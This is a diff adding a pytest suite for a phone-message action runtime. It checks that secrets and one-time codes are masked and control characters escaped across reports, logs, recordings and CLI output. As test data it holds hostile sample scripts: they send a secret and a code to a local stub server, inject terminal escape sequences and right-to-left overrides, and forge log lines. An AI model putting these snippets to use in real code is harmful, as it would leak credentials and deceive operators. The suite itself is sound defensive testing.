@@ -1,0 +1,267 @@
+"""Nothing secret or hostile leaves a worker unmasked: secrets and the code are masked, control
+characters escaped, in the report, events.jsonl, the recording, operator logs and test-action.
+
+Everything runs through the real pipeline, sandbox and a stub HTTP server on 127.0.0.1; a host
+name that carries a secret is resolved by an injected resolver to 127.0.0.1 only.
+"""
+
+from __future__ import annotations
+
+import json
+import logging
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from typer.testing import CliRunner
+
+import plugins.recorder as recorder
+from runtime import PhoneMessageRequest
+from runtime.cli import app
+from runtime.masking import MASK, Masker, escape_controls
+from runtime.sandbox.egress import EgressPolicy
+from runtime.sandbox.runner import SandboxRunner
+from runtime.templates import spell_code
+from tests.conftest import PipelineFactory, read_log
+from tests.recordings.make_recordings import recorder_plugins
+from tests.support.events import EVENTS_DIR
+from tests.support.stub_server import StubServer
+
+SECRET = "Sk7Qx9Lm2Vb4"  # mixed case: a host name arrives lower-cased
+CODE = "730419"
+WORDS = "seven three zero four one nine"
+SPELLINGS = {
+    "dots": ".".join(CODE),
+    "dashes": "-".join(CODE),
+    "spaces": " ".join(CODE),
+    "voice": spell_code(CODE),
+    "words": WORDS,
+}
+
+
+def leaks(text: str) -> list[str]:
+    """The secret or the code, in any of the spellings an action might use, found in text."""
+    lowered = text.lower()
+    found = [s for s in (SECRET, SECRET.lower()) if s.lower() in lowered]
+    found += [name for name, form in {"plain": CODE, **SPELLINGS}.items() if form in lowered]
+    return found
+
+
+@pytest.fixture
+def fake() -> Iterator[StubServer]:
+    with StubServer() as server:
+        server.respond(200, {"id": "m-1"})
+        yield server
+
+
+# -- the mask itself ---------------------------------------------------------------------------
+
+
+def test_one_mask_covers_the_code_in_every_spelling_and_the_secret_in_every_case() -> None:
+    masker = Masker([SECRET, "GB"], CODE)
+    for form in (CODE, *SPELLINGS.values(), WORDS.upper(), "73 04 19"):
+        assert masker.text(f"<{form}>") == f"<{MASK}>", form
+    assert masker.text(f"id{CODE}x") == f"id{MASK}x"
+    assert masker.text(f"https://{SECRET.lower()}.example/{SECRET}%21") == (
+        f"https://{MASK}.example/{MASK}%21"
+    )
+    assert masker.text("GB and 1730419 and +447911730419") == "GB and 1730419 and +447911730419"
+
+
+def test_control_characters_become_visible_escapes() -> None:
+    hostile = "a\x1b[2J\x1b]0;owned\x07\nb\r\t\x7f\x9b\u202eZ"
+    assert escape_controls(hostile) == "a\\x1b[2J\\x1b]0;owned\\x07\\nb\\r\\t\\x7f\\x9b\\u202eZ"
+    assert escape_controls("line one\nline two\r", keep_newlines=True) == ("line one\nline two\\r")
+    assert escape_controls("plain café ✓") == "plain café ✓"
+
+
+# -- the pipeline: report, events.jsonl, recording, operator log -------------------------------
+
+ATTACK = """
+def on_execute_send_phone_message(event, api):
+    secret = event.secrets.SMS_KEY
+    code = event.message_options.code
+    words = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]
+    forms = {
+        "dots": ".".join(code), "dashes": "-".join(code), "spaces": " ".join(code),
+        "voice": ". ".join(code), "words": " ".join([words[int(d)] for d in code]),
+    }
+    joined = forms[event.secrets.FORM]
+    api.http.get(event.secrets.SMS_URL + "/" + secret + "/" + joined.replace(" ", "+"))
+    print("leaking", secret, joined, "\\x1b[2J\\x1b]0;owned\\x07")
+    api.log.info("log " + secret + " " + joined + "\\nresult: {'forged': True}")
+    return {"message_id": "id-" + secret + "-" + joined, "echo": [secret, joined, code]}
+"""
+
+
+def attack_pipeline(
+    make_pipeline: PipelineFactory, tmp_path: Path, fake: StubServer, form: str, source: str
+) -> Any:
+    script = tmp_path / "action.py"
+    script.write_text(source)
+    return make_pipeline(
+        {
+            "acme": {
+                "provider": "phone-message-hook",
+                "provider_settings": {"script": str(script)},
+                "credentials_env": {"SMS_URL": "URL", "SMS_KEY": "KEY", "FORM": "FORM"},
+                "fallback": "never",
+                "record": True,
+                "record_keep": ["FORM"],
+            }
+        },
+        plugins=recorder_plugins(),
+        environ={"URL": f"{fake.url}/send", "KEY": SECRET, "FORM": form},
+        sandbox_allow_http_hosts=[fake.url.removeprefix("http://")],
+    )
+
+
+@pytest.mark.parametrize("form", sorted(SPELLINGS))
+async def test_the_message_id_attack_leaves_no_secret_or_code_anywhere(
+    make_pipeline: PipelineFactory,
+    tmp_path: Path,
+    fake: StubServer,
+    caplog: pytest.LogCaptureFixture,
+    form: str,
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    pipeline = attack_pipeline(make_pipeline, tmp_path, fake, form, ATTACK)
+    request = PhoneMessageRequest.create(tenant="acme", recipient="+447911123456", code=CODE)
+    report = await pipeline.deliver(request)
+    assert report.status == "delivered", report.model_dump_json()
+    [attempt] = report.attempts
+    assert attempt.message_id == f"id-{MASK}-{MASK}"
+    assert SECRET in fake.requests[0].path  # the action did send it: only the mask is ours
+    assert recorder.flush(), "the recorder did not catch up"
+    [recording] = (pipeline.settings.resolved_recordings_dir / "acme").iterdir()
+    events = read_log(pipeline)
+    assert events
+    assert all(e["details"].get("message_id") == f"id-{MASK}-{MASK}" for e in events)
+    assert leaks(report.model_dump_json()) == []
+    assert leaks(pipeline.settings.resolved_log_file.read_text("utf-8")) == []
+    assert leaks(recording.read_text("utf-8")) == []
+    assert leaks(caplog.text) == []
+
+
+async def test_action_text_reaches_reports_and_logs_escaped(
+    make_pipeline: PipelineFactory, tmp_path: Path, fake: StubServer
+) -> None:
+    """ESC and LF from print, api.log, an exception and a notification reason."""
+    source = """
+def on_execute_custom_phone_provider(event, api):
+    print("\\x1b[2J\\x1b]0;owned\\x07 printed\\nforged line")
+    api.log.info("logged \\x1b[31m red\\nresult: {}")
+    api.notification.retry("busy \\x1b[2J\\nretry: forged \\u202e")
+"""
+    (tmp_path / "action.py").write_text(source)
+    pipeline = make_pipeline(
+        {
+            "acme": {
+                "provider": "custom",
+                "provider_settings": {"script": str(tmp_path / "action.py")},
+                "fallback": "never",
+                "record": True,
+            }
+        },
+        plugins=recorder_plugins(),
+    )
+    request = PhoneMessageRequest.create(tenant="acme", recipient="+447911123456", code=CODE)
+    report = await pipeline.deliver(request)
+    [attempt] = report.attempts
+    assert attempt.error_code == "notification_retry"
+    assert attempt.error is not None
+    assert "\\x1b[2J\\nretry: forged \\u202e" in attempt.error
+    for text in (attempt.error, report.detail or ""):
+        assert not any(ch in text for ch in "\x1b\n\r\u202e"), text
+    events = read_log(pipeline)
+    lines = pipeline.settings.resolved_log_file.read_bytes()
+    assert events
+    assert lines.count(b"\n") == len(events)  # one JSON object per line
+    assert b"\x1b" not in lines
+    assert recorder.flush(), "the recorder did not catch up"
+    [recording] = (pipeline.settings.resolved_recordings_dir / "acme").iterdir()
+    action = json.loads(recording.read_text("utf-8").splitlines()[1])["action"]
+    assert action["logs"], action
+    for line in action["logs"]:
+        assert not any(ch in line for ch in "\x1b\x07\n"), action["logs"]
+    assert "[info] logged \\x1b[31m red\\nresult: {}" in action["logs"]
+
+
+# -- the sandbox's own operator log and HTTP records: secrets in host names --------------------
+
+
+async def test_a_secret_in_a_host_name_is_masked_in_http_records_and_the_egress_log(
+    fake: StubServer, caplog: pytest.LogCaptureFixture
+) -> None:
+    port = int(fake.url.rsplit(":", 1)[1])
+    allowed = f"{SECRET.lower()}.example"
+    asked: list[str] = []
+
+    async def resolver(host: str, _port: int) -> list[str]:
+        """The only name that resolves is the allowed one, to 127.0.0.1; others get nothing,
+        so no connection to another address can ever be attempted."""
+        asked.append(host)
+        return ["127.0.0.1"] if host == allowed else []
+
+    source = """
+def on_execute_send_phone_message(event, api):
+    key = event.secrets.KEY
+    ok = api.http.get("http://" + key + ".example:PORT/ping/" + key)
+    try:
+        api.http.get("https://" + key + ".invalid/")
+    except ApiError as e:
+        print("refused:", str(e))
+    return {"status": ok["status"]}
+""".replace("PORT", str(port))
+    caplog.set_level(logging.INFO, logger="runtime.sandbox")
+    policy = EgressPolicy(allow_http_hosts=frozenset({f"{allowed}:{port}"}))
+    async with SandboxRunner(policy=policy, max_workers=2, resolver=resolver) as runner:
+        result = await runner.run(
+            tenant="acme",
+            name="host",
+            source=source,
+            trigger="send-phone-message",
+            event=json.loads((EVENTS_DIR / "spm_sms_verify_us.json").read_text()),
+            secrets={"KEY": SECRET},
+        )
+    assert result.outcome == "ok", result.error
+    assert result.result == {"status": 200}
+    assert f"{SECRET.lower()}.example" in asked  # the request really carried the secret
+    assert result.http[0].url == f"http://{MASK}.example:{port}/ping/{MASK}"
+    assert leaks(result.model_dump_json()) == []
+    sandbox_log = [r.getMessage() for r in caplog.records if r.name.startswith("runtime.sandbox")]
+    assert any(MASK in line for line in sandbox_log), sandbox_log  # the refusal was logged
+    assert leaks(caplog.text) == []
+    assert all("\x1b" not in line and "\n" not in line for line in sandbox_log)
+
+
+# -- test-action output ------------------------------------------------------------------------
+
+
+def test_test_action_output_cannot_clear_the_screen_or_forge_a_line(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("PHONE_ACTIONS_DATA_DIR", str(tmp_path / "data"))
+    monkeypatch.setenv("PHONE_ACTIONS_SANDBOX_TIMEOUT", "2")
+    script = tmp_path / "hostile.py"
+    script.write_text(
+        "def on_execute_send_phone_message(event, api):\n"
+        "    print('\\x1b[2J\\x1b]0;owned\\x07 ' + event.secrets.KEY)\n"
+        "    api.log.info('x\\nresult: {\"forged\": true}')\n"
+        "    raise Exception('boom\\x1b[31m\\n  result: {}\\u202e ' + event.message_options.code)\n"
+    )
+    event = EVENTS_DIR / "spm_sms_verify_us.json"
+    code = json.loads(event.read_text())["message_options"]["code"]
+    result = CliRunner().invoke(
+        app,
+        ["test-action", str(script), "--event", str(event), "--secret", f"KEY={SECRET}"],
+    )
+    assert result.exit_code == 1, result.output
+    output = result.output
+    assert not any(ch in output for ch in "\x1b\x07\u202e"), repr(output)
+    assert "\\x1b[2J\\x1b]0;owned\\x07" in output
+    assert not any(line.lstrip().startswith("result:") for line in output.splitlines())
+    assert SECRET not in output
+    assert code not in output
